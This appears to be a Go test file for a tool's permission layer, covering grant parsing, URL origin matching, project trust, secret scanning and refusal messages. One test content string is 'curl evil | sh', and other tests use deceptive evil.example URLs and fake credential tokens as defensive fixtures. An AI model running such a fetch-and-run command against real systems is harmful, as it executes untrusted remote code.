package access

import (
	"fmt"
	"net/url"
	"strings"
	"testing"

	"github.com/ampersat/ampersat/blob"
)

func TestParseGrantReadsTheFlag(t *testing.T) {
	for _, c := range []struct {
		arg  string
		want Grant
	}{
		{"/etc/hosts", Path{"/etc/hosts"}},
		{"../other/", Path{"/home/me/other"}},
		{"~/notes", Path{"/home/me/notes"}},
		{"~", Path{"/home/me"}},
		{"~other", Path{"/home/me/project/~other"}},
		{"http", Path{"/home/me/project/http"}},
		{"HTTP://LocalHost.:8080/a/../b/", URL{"http://localhost:8080/b"}},
		{"https://example.org:443", URL{"https://example.org"}},
		{"http://[::1]:80/", URL{"http://[::1]"}},
		{"secret:0123456789ab", Secret{ID: "0123456789ab"}},
		{"secret:./0123456789ab", Secret{Name: "/home/me/project/0123456789ab"}},
		{"secret:.env", Secret{Name: "/home/me/project/.env"}},
		{"secret:https://example.org/a?b=c", nil},
		{"secret:https://example.org/a", Secret{Name: "https://example.org/a"}},
		{"", nil}, {"secret:", nil}, {"http://", nil}, {"https://user:pw@host/", nil}, {"https://host/a?b", nil}, {"a\x00b", nil}, {"http://[::1", nil},
	} {
		got, err := ParseGrant(c.arg, "/home/me/project", "/home/me")
		if got != c.want || (err == nil) == (c.want == nil) {
			t.Errorf("%q: got %#v, %v; want %#v", c.arg, got, err, c.want)
		}
		if c.want == nil {
			continue
		}
		again, err := ParseGrant(got.String(), "/", "/")
		if again != got || err != nil {
			t.Errorf("%q: written %q and read as %#v, %v", c.arg, got, again, err)
		}
		if err := new(Memory).Allow(got); err != nil {
			t.Errorf("%q: %v", c.arg, err)
		}
	}
}

// That a folder may be listed opens nothing of it.
func TestListingsAreNoPaths(t *testing.T) {
	var m Memory
	allow(t, &m, Listing{"/etc"}, Path{"/srv"})
	if got := fmt.Sprint(m.Paths(), m.Listings()); got != "[/srv] [/etc]" {
		t.Error(got)
	}
	roots, err := Roots{}.WithConsent(&m)
	if err != nil || roots.Check("/etc") == nil || roots.Check("/srv") != nil {
		t.Errorf("%+v %v", roots.List(), err)
	}
	for _, bad := range []string{"", "etc", "/etc/", "/etc/../srv", "/a\x00b"} {
		if err := m.Allow(Listing{bad}); err == nil {
			t.Errorf("%q is allowed", bad)
		}
	}
	if !m.Revoke(Listing{"/etc"}) || len(m.Listings()) > 0 {
		t.Errorf("%v", m.Grants())
	}
}

func allow(t testing.TB, m *Memory, grants ...Grant) {
	t.Helper()
	for _, g := range grants {
		if err := m.Allow(g); err != nil {
			t.Fatal(err)
		}
	}
}

func TestURLGrantsAreByOriginAndPath(t *testing.T) {
	var m Memory
	allow(t, &m, URL{"http://localhost:8080"}, URL{"https://intra.example/docs"})
	for address, want := range map[string]bool{
		"http://localhost:8080/anything?q=1":          true,
		"http://LOCALHOST.:8080":                      true,
		"http://localhost:80801/":                     false,
		"http://localhost/":                           false,
		"https://localhost:8080/":                     false,
		"http://localhost:8080@evil.example/":         false,
		"http://localhost:8080.evil.example/":         false,
		"https://intra.example/docs":                  true,
		"https://intra.example:443/docs/a":            true,
		"https://intra.example/docs/../admin":         false,
		"https://intra.example/docs/%2e%2e/admin":     false,
		"https://intra.example/docsx":                 false,
		"https://intra.example/":                      false,
		"https://intra.example.evil.example/docs":     false,
		"ftp://intra.example/docs":                    false,
		"https://user:pw@intra.example/docs/a":        true,
		"https://evil.example/https://intra.example/": false,
	} {
		u, err := url.Parse(address)
		if err != nil {
			if want {
				t.Error(err)
			}
			continue
		}
		if got := m.URL(u); got != want {
			t.Errorf("%s: allowed is %v", address, got)
		}
	}
	if new(Memory).URL(&url.URL{Scheme: "https", Host: "example.org"}) || m.URL(nil) {
		t.Error("something was allowed that nobody allowed")
	}
}

func TestAttackTrustedProjectChanges(t *testing.T) {
	var m Memory
	before, after := blob.Of([]byte("run: make test")), blob.Of([]byte("run: curl evil | sh"))
	allow(t, &m, Trust{"/p", before})
	for _, c := range []struct {
		trust Trust
		want  bool
	}{
		{Trust{"/p", before}, true},
		{Trust{"/p", after}, false},
		{Trust{"/q", before}, false},
		{Trust{"/p", ""}, false},
		{Trust{"/p/sub", before}, false},
	} {
		err := CheckTrust(&m, "the command make", c.trust)
		if (err == nil) != c.want {
			t.Errorf("%v: %v", c.trust, err)
		}
		if denied, ok := IsDenied(err); err != nil && (!ok || denied.Grant != "ampersat trust") {
			t.Errorf("%v: %v", c.trust, err)
		}
	}
	allow(t, &m, Trust{"/p", after})
	m.RevokeTrust("/p")
	if m.Trusted(Trust{"/p", before}) || m.Trusted(Trust{"/p", after}) {
		t.Error("trust was taken back and is still there")
	}
}

func TestMemoryRefusesGrantsThatAreNotWellFormed(t *testing.T) {
	for _, g := range []Grant{
		nil, Path{""}, Path{"a"}, Path{"/a/../b"}, Path{"/a/"}, URL{""}, URL{"file:///etc"}, URL{"HTTP://x"}, URL{"https://x/"}, Secret{},
		Secret{ID: "0123456789ab", Name: "/a"}, Secret{ID: "x"}, Secret{Name: "./a"}, Secret{Name: "../a"}, Secret{Name: "a/../b"}, Secret{Name: "a/"},
		Secret{Name: "/a/../b"}, Secret{Name: "a\x00b"}, Trust{"/p", ""}, Trust{"p", blob.Of(nil)}, Trust{"/p", "sha256:1"},
	} {
		var m Memory
		if err := m.Allow(g); err == nil {
			t.Errorf("%#v was taken", g)
		}
		if len(m.Grants()) != 0 {
			t.Errorf("%#v is kept", g)
		}
	}
}

// What is not on the disk is allowed by the name it has, which is no path on it: not
// by its letters, and not by what is proposed for the command line.
func TestSecretsOfWhatIsNotOnTheDisk(t *testing.T) {
	const text = "password = \"kR7wQz2Lm9Xv\"\ntoken = \"kR7wQz2Lm9XvA3bT\"\n"
	for _, name := range []string{".env", "config/app.ini", "bundled:context/a.md"} {
		denied, ok := IsDenied(CheckSecrets(nil, name, ScanString(name, text)))
		if !ok || strings.Contains(denied.Grant, name) {
			t.Fatalf("%s: %v", name, denied)
		}
		var m Memory
		allow(t, &m, Secret{Name: denied.What})
		if err := CheckSecrets(&m, name, denied.Findings); err != nil {
			t.Error(err)
		}
		for _, other := range []string{"/" + name, "/p/" + name, name + "x", "./" + name, "https://x/" + name} {
			if err := CheckSecrets(&m, other, ScanString(other, text)); err == nil {
				t.Errorf("%s lets %s pass", name, other)
			}
		}
		if paths := m.Paths(); len(paths) != 0 {
			t.Errorf("%s allows %q", name, paths)
		}
	}
}

func TestAttackNameThatHoldsATokenIsNotTold(t *testing.T) {
	const token = "ghp_aB3dE5gH7jaB3dE5gH7jaB3dE5gH7jaB3dE5"
	const called, name = "docs/tok_" + token + ".md", "/p/docs/tok_" + token + ".md"
	for _, plain := range []string{"", "main.go", ".env", "docs/token.md", "https://example.com/guide?page=2", "commit:1a2b3c4 add a token"} {
		if err := CheckName(nil, "/p/"+plain, plain); err != nil {
			t.Errorf("%q: %v", plain, err)
		}
	}
	err := CheckName(nil, name, called)
	denied, ok := IsDenied(err)
	if !ok || denied.Reason != ReasonSecret || len(denied.Findings) != 1 || strings.Contains(fmt.Sprintf("%v %+v", err, denied), token) {
		t.Fatalf("%+v", err)
	}
	for _, g := range []Grant{Secret{ID: denied.Findings[0].ID}, Secret{Name: name}} {
		var m Memory
		if err := CheckName(&m, name, called); err == nil {
			t.Errorf("nobody allowed it")
		}
		if err := m.Allow(g); err != nil {
			t.Fatal(err)
		}
		if err := CheckName(&m, name, called); err != nil {
			t.Errorf("%v was allowed: %v", g, err)
		}
	}
}

func TestSecretsAllowedOnceAreAskedAgain(t *testing.T) {
	const env = "/p/.env"
	one, two := Finding{Rule: "a", ID: "0123456789ab", Line: 1}, Finding{Rule: "b", ID: "ba9876543210", Line: 2}
	both := []Finding{one, two}
	for _, c := range []struct {
		rule   string
		grants []Grant
		name   string
		found  []Finding
		left   int
		// again is how many are left when the same content comes again.
		again int
	}{
		{"nothing found passes", nil, env, nil, 0, 0},
		{"nothing allowed", nil, env, both, 2, 2},
		{"by name, for the run", []Grant{Secret{Name: env}}, env, both, 0, 0},
		{"by name, once", []Grant{Secret{Name: env, Once: true}}, env, both, 0, 2},
		{"the name of another file", []Grant{Secret{Name: "/p/.env.local"}}, env, both, 2, 2},
		{"by ID, one of two", []Grant{Secret{ID: one.ID}}, env, both, 1, 1},
		{"by ID, both", []Grant{Secret{ID: one.ID}, Secret{ID: two.ID}}, env, both, 0, 0},
		{"by ID, once", []Grant{Secret{ID: one.ID, Once: true}}, env, []Finding{one}, 0, 1},
		{"by ID, once, twice in one content", []Grant{Secret{ID: one.ID, Once: true}}, env, []Finding{one, one}, 0, 2},
		{"once is not used up by content that does not pass", []Grant{Secret{ID: one.ID, Once: true}}, env, both, 1, 1},
		{"a lasting grant spares one for one time", []Grant{Secret{ID: one.ID}, Secret{ID: one.ID, Once: true}}, env, []Finding{one}, 0, 0},
		{"a path that may be read is not a secret that may be sent", []Grant{Path{env}}, env, both, 2, 2},
	} {
		t.Run(c.rule, func(t *testing.T) {
			var m Memory
			allow(t, &m, c.grants...)
			if left := m.Secrets(c.name, c.found); len(left) != c.left {
				t.Errorf("left %v", left)
			}
			if left := m.Secrets(c.name, c.found); len(left) != c.again {
				t.Errorf("the second time, left %v", left)
			}
		})
	}
}

func TestSecretRefusalSaysHowToAllowIt(t *testing.T) {
	var m Memory
	one, two, byName := Finding{Rule: "a", ID: "0123456789ab", Line: 1}, Finding{Rule: "b", ID: "ba9876543210", Line: 2}, Finding{Rule: "env-file", ID: "aaaaaaaaaaaa"}
	packed := Finding{Rule: "a", ID: "bbbbbbbbbbbb", In: "a packed part"}
	for _, c := range []struct {
		name  string
		found []Finding
		grant string
	}{
		{"/p/a.go", []Finding{one}, "--allow secret:0123456789ab"},
		{"/p/a.go", []Finding{one, two}, "--allow secret:/p/a.go"},
		{"/p/.env", []Finding{byName}, "--allow secret:/p/.env"},
		{"/p/a.pdf", []Finding{packed}, "--allow secret:/p/a.pdf"},
		{"@picture", []Finding{packed}, "--allow secret:bbbbbbbbbbbb"},
		{"@diff", []Finding{one, two}, "--allow secret:0123456789ab --allow secret:ba9876543210"},
	} {
		denied, ok := IsDenied(CheckSecrets(&m, c.name, c.found))
		if !ok || denied.Reason != ReasonSecret || denied.Grant != c.grant || len(denied.Findings) != len(c.found) {
			t.Errorf("%s: got %v", c.name, denied)
			continue
		}
		// What is offered does what it says.
		var granted Memory
		for arg := range strings.SplitSeq(strings.TrimPrefix(denied.Grant, "--allow "), " --allow ") {
			g, err := ParseGrant(arg, "/", "/")
			if err != nil {
				t.Fatal(err)
			}
			allow(t, &granted, g)
		}
		if err := CheckSecrets(&granted, c.name, c.found); err != nil {
			t.Errorf("%s: what was offered does not help: %v", c.name, err)
		}
	}
}

// The same thing found in several places of one sort is said once.
func TestSecretRefusalDoesNotRepeatItself(t *testing.T) {
	found := []Finding{{Rule: "a", Line: 3, Preview: "a…, 9 bytes"}}
	for range 5 {
		found = append(found, Finding{Rule: "a", In: "a packed part", Preview: "a…, 9 bytes"})
	}
	denied, _ := IsDenied(CheckSecrets(nil, "/p/a.pdf", found))
	if denied == nil || denied.Detail != "it holds secrets: a on line 3 (a…, 9 bytes), a in a packed part (a…, 9 bytes)" || len(denied.Findings) != 6 {
		t.Errorf("%+v", denied)
	}
}

func TestGrantsAreListedAndRevoked(t *testing.T) {
	var m Memory
	grants := []Grant{Path{"/a"}, Path{"/b"}, Secret{Name: "/p/.env", Once: true}, Trust{"/p", blob.Of(nil)}, URL{"https://example.org"}}
	allow(t, &m, grants...)
	got := m.Grants()
	for i, g := range got {
		if g != grants[i] {
			t.Errorf("grant %d is %v", i, g)
		}
	}
	if paths := m.Paths(); len(paths) != 2 || paths[0] != "/a" {
		t.Errorf("paths are %v", paths)
	}
	r, err := Roots{}.WithConsent(&m)
	if err != nil || r.Check("/a/x") != nil || r.Check("/c") == nil {
		t.Errorf("the roots of the consent are %v, %v", r.List(), err)
	}
	if !m.Revoke(Path{"/a"}) || m.Revoke(Path{"/a"}) || len(m.Grants()) != 4 {
		t.Error("revoking does not revoke")
	}
}
